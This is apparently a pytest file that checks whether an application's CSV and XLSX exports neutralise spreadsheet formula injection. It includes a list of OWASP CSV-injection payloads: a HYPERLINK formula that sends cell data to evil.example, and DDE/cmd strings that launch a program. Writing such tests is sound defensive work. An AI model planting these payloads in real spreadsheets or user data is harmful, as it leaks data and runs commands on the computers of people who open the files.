"""Spreadsheet formula injection (issue 11, fault 5): every CSV and XLSX cell Pulih writes is
text when it could start a formula, in every export, tried with the OWASP CSV-injection
payloads; real numbers stay numbers; and no code writes a csv row or a worksheet cell except
through reports/spreadsheet_cells.py."""
from __future__ import annotations

import ast
import csv
import datetime as dt
import io
import re
import zipfile
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook

from models.people.registry import PersonInput, register_person
from models.tallies.bnba import bnba_export
from models.tallies.export import export_month
from reports.spreadsheet_cells import TRIGGERS
from reports.tally_csv import render_bnba_csv, render_tally_csv
from reports.tally_xlsx import render_bnba_xlsx, render_tally_xlsx
from tests.consent import consented
from ui.common.tally_export import indonesian

ROOT = Path(__file__).resolve().parent.parent
ID = indonesian()
# OWASP "CSV Injection" payloads, and the variants the issue names
PAYLOADS = (
    '=HYPERLINK("http://evil.example/?"&C6,"Klik")',
    "=cmd|' /C calc'!A0",
    "=DDE(\"cmd\";\"/C calc\";\"!A0\")A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
    "=1+2\";=1+2",
    "-1",  # a plain number is left alone
)
FORMULA_START = tuple(TRIGGERS)
NUMBER = re.compile(r"-?\d+([.,]\d+)?")
sqlite_only = pytest.mark.parametrize("db", ["sqlite"], indirect=True)


def poison(value: Any, payloads: list[str], counter: list[int]) -> Any:
    """``value`` with every text inside replaced by the next payload (round robin)."""
    if isinstance(value, str):
        counter[0] += 1
        return payloads[counter[0] % len(payloads)]
    if isinstance(value, dict):
        return {key: poison(item, payloads, counter) for key, item in value.items()}
    if isinstance(value, list):
        return [poison(item, payloads, counter) for item in value]
    if isinstance(value, tuple):
        return tuple(poison(item, payloads, counter) for item in value)
    return value


def csv_cells(data: bytes, delimiter: str) -> list[str]:
    rows = csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=delimiter)
    return [cell for row in rows for cell in row]


def assert_csv_safe(data: bytes, delimiter: str) -> int:
    """Every CSV field that starts like a formula is a quoted text; returns how many were."""
    neutralised = 0
    for cell in csv_cells(data, delimiter):
        if cell.startswith("'"):
            neutralised += cell[1:2] in FORMULA_START
        else:
            assert not cell.startswith(FORMULA_START) or NUMBER.fullmatch(cell), repr(cell)
    return neutralised


def assert_xlsx_safe(data: bytes) -> int:
    """No formula anywhere in the workbook's XML, and every text cell that starts like a
    formula is a string with Excel's quote prefix; returns how many were."""
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        for name in package.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in package.read(name) and b"<f " not in package.read(name)
    neutralised = 0
    for ws in load_workbook(io.BytesIO(data)).worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.value.startswith(FORMULA_START) \
                        and not NUMBER.fullmatch(cell.value):
                    assert cell.data_type == "s" and cell.quotePrefix, (ws.title, cell.value)
                    neutralised += 1
    return neutralised


def bnba_payload(names: tuple[str, ...]) -> dict[str, Any]:
    kinds = ["int", "text", "text", "text", "date", "int", "text"]
    rows = [[index, name, "3273055708950003", name, dt.date(1990, 1, 2), -3, name]
            for index, name in enumerate(names, 1)]
    return {"title": "BNBA", "notice": "=1+1", "period_label": "Mei 2025", "month": "2025-05",
            "columns": ["No.", "=Nama", "NIK", "@Jenis", "Lahir", "Umur", "Alamat"],
            "kinds": kinds, "rows": rows}


def test_a_client_named_like_a_formula_is_text_in_the_bnba_xlsx_and_csv():
    payload = bnba_payload(PAYLOADS)
    data = render_bnba_xlsx(payload)
    assert assert_xlsx_safe(data) >= 3 * (len(PAYLOADS) - 1)
    ws = load_workbook(io.BytesIO(data)).active
    names = [ws.cell(row=5 + i, column=2).value for i in range(len(PAYLOADS))]
    # kept as typed, only stored as text (XML reads a carriage return back as a line feed)
    assert names == [name.replace("\r", "\n") for name in PAYLOADS]
    assert ws.cell(row=5, column=6).value == -3 and ws.cell(row=5, column=6).data_type == "n"
    for semicolon, delimiter in ((False, ","), (True, ";")):
        data = render_bnba_csv(payload, semicolon=semicolon)
        rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""),
                               delimiter=delimiter))
        assert [row[1] for row in rows[1:]] == [
            name if name == "-1" else "'" + name for name in PAYLOADS]
        assert rows[1][5] == "-3"  # a real negative number is still a number
        assert assert_csv_safe(data, delimiter) >= 3 * (len(PAYLOADS) - 1)


@sqlite_only
def test_every_text_of_the_monthly_report_is_neutralised_in_xlsx_and_csv(staff, person_id):
    admin = staff["admin"]
    today = dt.date.today()
    payload = export_month(admin, today.year, today.month, "xlsx", ID)
    poisoned = poison(payload, [p for p in PAYLOADS if p != "-1"], [0])
    poisoned["texts"]["page"] = "{page}"
    tried = assert_xlsx_safe(render_tally_xlsx(poisoned))
    assert tried > 50
    for semicolon, delimiter in ((False, ","), (True, ";")):
        assert assert_csv_safe(render_tally_csv(poisoned, semicolon=semicolon), delimiter) > 20


@sqlite_only
def test_a_registered_client_named_hyperlink_is_text_in_the_real_bnba(staff):
    from models.intake import intake
    admin = staff["admin"]
    name = '=HYPERLINK("http://evil.example/?"&C6,"Klik")'
    address = "=cmd|' /C calc'!A0"
    person = register_person(staff["intake"], PersonInput(
        full_name=name, sex="L", birth_date=dt.date(1990, 3, 4), id_type="none",
        no_id_reason="Hilang", address=address, phone="+62 812 0000 0000"))
    today = dt.date.today()
    episode = intake.open_episode(staff["intake"], person, intake.EpisodeInput(
        service_type="outpatient", reported_on=today))
    consented(staff["intake"], episode)
    intake.admit(staff["intake"], episode, today)
    payload = bnba_export(admin, today.year, today.month, "xlsx", ID)
    assert [row[1] for row in payload["rows"]] == [name]
    data = render_bnba_xlsx(payload)
    assert assert_xlsx_safe(data) >= 2
    ws = load_workbook(io.BytesIO(data)).active
    assert any(cell.value == name and cell.data_type == "s" for row in ws.iter_rows()
               for cell in row)
    cells = csv_cells(render_bnba_csv(payload), ",")
    assert "'" + name in cells and "'" + address in cells and name not in cells


# --- no export writes a cell any other way -------------------------------------------------

ALLOWED = {ROOT / "reports" / "spreadsheet_cells.py"}


def unsafe_writes(path: Path) -> list[str]:
    """csv writers, worksheet cell writes and worksheet appends in one module."""
    found = []
    tree = ast.parse(path.read_text(encoding="utf-8"))
    for node in ast.walk(tree):
        if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute):
            name = node.func.attr
            owner = ast.unparse(node.func.value)
            if name in ("writer", "DictWriter") and owner == "csv":
                found.append(f"{path.name}:{node.lineno} csv.{name}")
            if name == "cell" and (len(node.args) > 2 or any(k.arg == "value"
                                                               for k in node.keywords)):
                found.append(f"{path.name}:{node.lineno} .cell(value=...)")
            if name == "append" and re.search(r"\b(ws|sheet|worksheet)\b", owner, re.I):
                found.append(f"{path.name}:{node.lineno} {owner}.append")
            if name in ("writerow", "writerows", "to_csv", "to_excel"):
                found.append(f"{path.name}:{node.lineno} .{name}")
        if isinstance(node, (ast.Assign, ast.AugAssign)):
            targets = node.targets if isinstance(node, ast.Assign) else [node.target]
            for target in targets:
                if isinstance(target, ast.Attribute) and target.attr == "value" \
                        and re.search(r"cell|ws\b|\]", ast.unparse(target.value)):
                    found.append(f"{path.name}:{node.lineno} cell.value =")
        if isinstance(node, (ast.Import, ast.ImportFrom)):
            module = node.module if isinstance(node, ast.ImportFrom) else None
            names = [alias.name for alias in node.names]
            if (module and module.startswith(("xlsxwriter", "odf", "pyexcel"))) or any(
                    n.startswith(("xlsxwriter", "odf", "pyexcel")) for n in names):
                found.append(f"{path.name}:{node.lineno} another spreadsheet writer")
    return found


def test_no_export_writes_a_cell_except_through_the_neutralising_function():
    offenders = []
    for folder in ("reports", "ui", "models"):
        for path in sorted((ROOT / folder).rglob("*.py")):
            if path not in ALLOWED:
                offenders += unsafe_writes(path)
    assert offenders == []


def test_the_scan_finds_a_raw_write(tmp_path):
    sample = tmp_path / "sample.py"
    sample.write_text("import csv\nw = csv.writer(f)\nws.cell(row=1, column=1, value=x)\n"
                      "ws.append([1])\ncell.value = '=1'\nframe.to_csv(f)\n", encoding="utf-8")
    assert len(unsafe_writes(sample)) == 5
